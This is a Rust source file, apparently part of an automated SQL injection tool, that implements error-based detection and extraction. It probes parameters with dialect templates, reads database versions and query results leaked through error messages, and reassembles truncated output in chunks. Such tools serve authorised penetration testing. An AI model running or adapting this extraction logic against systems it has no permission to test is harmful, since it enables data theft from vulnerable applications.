//! Error-based SQL injection
//!
//! The injected expression is forced into a type or XPath error whose
//! message echoes its value. Dialects that truncate that message are read
//! in fixed-size chunks.

use crate::http::response::HttpResponse;
use crate::sqli::core::boundary::{self, Payload};
use crate::sqli::core::dialect::{Dialect, PayloadTemplate};
use crate::sqli::core::settings::ERROR_MAX_CHUNKS;
use crate::sqli::error::{Result, SqliError};
use crate::sqli::request::Prober;
use crate::sqli::techniques::{
    inconclusive, DetectionResult, ExtractionRequest, ExtractionResult, InjectionRequest,
    Technique,
};
use async_trait::async_trait;
use tokio_util::sync::CancellationToken;

pub const NAME: &str = "error-based";

/// The backend echoed a computed value
const CONFIDENCE: f32 = 0.95;

#[derive(Debug, Clone)]
pub struct ErrorBased {
    max_chunks: usize,
}

impl Default for ErrorBased {
    fn default() -> Self {
        Self::new(ERROR_MAX_CHUNKS)
    }
}

/// Leaked value from an error page
fn leaked(dialect: &dyn Dialect, resp: &HttpResponse) -> Option<String> {
    let pattern = dialect.error_pattern()?;
    let body = resp.body_text();
    pattern
        .captures(&body)
        .and_then(|caps| caps.get(1))
        .map(|m| dialect.decode_leak(m.as_str()))
}

/// A template and boundary that produced an echoing error
struct Vector {
    dialect: &'static dyn Dialect,
    template: &'static PayloadTemplate,
    boundary: &'static boundary::Boundary,
    payload: Payload,
    value: String,
}

impl ErrorBased {
    pub fn new(max_chunks: usize) -> Self {
        Self {
            max_chunks: max_chunks.max(1),
        }
    }

    /// Try every dialect template and boundary until an error echoes `expr(dialect)`
    async fn probe<F>(
        &self,
        prober: &Prober<'_>,
        dialects: &[&'static dyn Dialect],
        expr: F,
        accept: impl Fn(&str) -> bool + Send + Sync,
    ) -> Result<Option<Vector>>
    where
        F: Fn(&dyn Dialect) -> String + Send + Sync,
    {
        let original = &prober.parameter().value;
        for &dialect in dialects {
            let rendered_expr = expr(dialect);
            for template in dialect.error_payloads() {
                let clause = template.render(&rendered_expr);
                for candidate in boundary::candidates(prober.parameter().param_type) {
                    prober.check_cancelled()?;
                    let payload = candidate.and(original, &clause);
                    let resp = match inconclusive(prober.send(&payload).await)? {
                        Some(resp) => resp,
                        None => continue,
                    };
                    if let Some(value) = leaked(dialect, &resp).filter(|v| accept(v)) {
                        tracing::debug!(
                            param = %prober.parameter().name,
                            "{} {} leaked {:?}",
                            dialect.name(),
                            template.name,
                            value
                        );
                        return Ok(Some(Vector {
                            dialect,
                            template,
                            boundary: candidate,
                            payload,
                            value,
                        }));
                    }
                }
            }
        }
        Ok(None)
    }

    /// Read the remainder of a truncated value in fixed-size chunks
    async fn read_chunks(
        &self,
        prober: &Prober<'_>,
        vector: &Vector,
        query: &str,
        chunk_size: usize,
    ) -> Result<ExtractionResult> {
        let original = &prober.parameter().value;
        let mut value = vector.value.clone();
        let mut start = value.chars().count() + 1;

        for _ in 1..self.max_chunks {
            let expr = vector.dialect.substring(query, start, chunk_size);
            let payload = vector.boundary.and(original, &vector.template.render(&expr));

            let chunk = match prober.send(&payload).await {
                Ok(resp) => leaked(vector.dialect, &resp),
                Err(SqliError::Cancelled) => return Err(SqliError::Cancelled),
                Err(err) => {
                    return Ok(ExtractionResult::interrupted(
                        value,
                        prober.requests(),
                        SqliError::partial(start, err),
                    ))
                }
            };

            let chunk = match chunk {
                Some(chunk) => chunk,
                None => {
                    let err = SqliError::NotInjectable("error output disappeared".to_string());
                    return Ok(ExtractionResult::interrupted(
                        value,
                        prober.requests(),
                        SqliError::partial(start, err),
                    ));
                }
            };

            let read = chunk.chars().count();
            value.push_str(&chunk);
            if read < chunk_size {
                return Ok(ExtractionResult::complete(value, prober.requests()));
            }
            start += read;
        }

        tracing::warn!("error-based extraction hit the {} chunk cap", self.max_chunks);
        Ok(ExtractionResult::complete(value, prober.requests()))
    }
}

#[async_trait]
impl Technique for ErrorBased {
    fn name(&self) -> &'static str {
        NAME
    }

    fn priority(&self) -> u8 {
        1
    }

    async fn detect(&self, cancel: &CancellationToken, req: &InjectionRequest) -> Result<DetectionResult> {
        let prober = req.prober(cancel);
        let baseline = req.baseline_text();

        let found = self
            .probe(
                &prober,
                &req.dialects(),
                |dialect| dialect.version_query().to_string(),
                |value| !value.is_empty() && !baseline.contains(value),
            )
            .await?;

        Ok(match found {
            Some(vector) => {
                let evidence = format!(
                    "{} {} error leaked version {:?}",
                    vector.dialect.name(),
                    vector.template.name,
                    vector.value
                );
                DetectionResult::positive(NAME, CONFIDENCE, vector.payload, evidence)
                    .with_dbms(vector.dialect.name())
            }
            None => DetectionResult::negative(NAME),
        })
    }

    async fn extract(&self, cancel: &CancellationToken, req: &ExtractionRequest) -> Result<ExtractionResult> {
        let injection = &req.injection;
        let prober = injection.prober(cancel);
        let query = req.query.as_str();

        let vector = self
            .probe(&prober, &injection.dialects(), |_| query.to_string(), |_| true)
            .await?
            .ok_or_else(|| {
                SqliError::NotInjectable(format!(
                    "no error template echoes through {}",
                    injection.parameter.name
                ))
            })?;

        match vector.dialect.error_truncation() {
            Some(limit) if vector.value.chars().count() >= limit => {
                self.read_chunks(&prober, &vector, query, limit).await
            }
            _ => Ok(ExtractionResult::complete(vector.value, prober.requests())),
        }
    }
}
